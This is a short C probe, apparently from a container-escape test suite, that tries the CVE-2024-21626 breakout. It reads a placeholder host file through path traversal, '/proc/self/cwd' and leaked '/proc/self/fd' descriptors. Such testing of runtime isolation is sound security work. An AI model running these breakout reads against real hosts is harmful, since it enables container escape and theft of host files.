/* Leaves by its working directory, if that is outside of its root (CVE-2024-21626). */
#include "common/attack.h"

static void attempt(void) {
    char path[PATH_MAX] = "";
    if (TRY(syscall(SYS_getcwd, path, sizeof path)) > 0) {
        printf("in %s\n", path);
    }
    show("../../../../../../etc/secret");
    show("/proc/self/cwd/../../../../../../etc/secret");
    for (int fd = 0; fd < 32; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../../etc/secret", fd);
        int file = open(path, O_RDONLY);
        if (file >= 0) {
            show_fd(path, file);
        }
    }
}
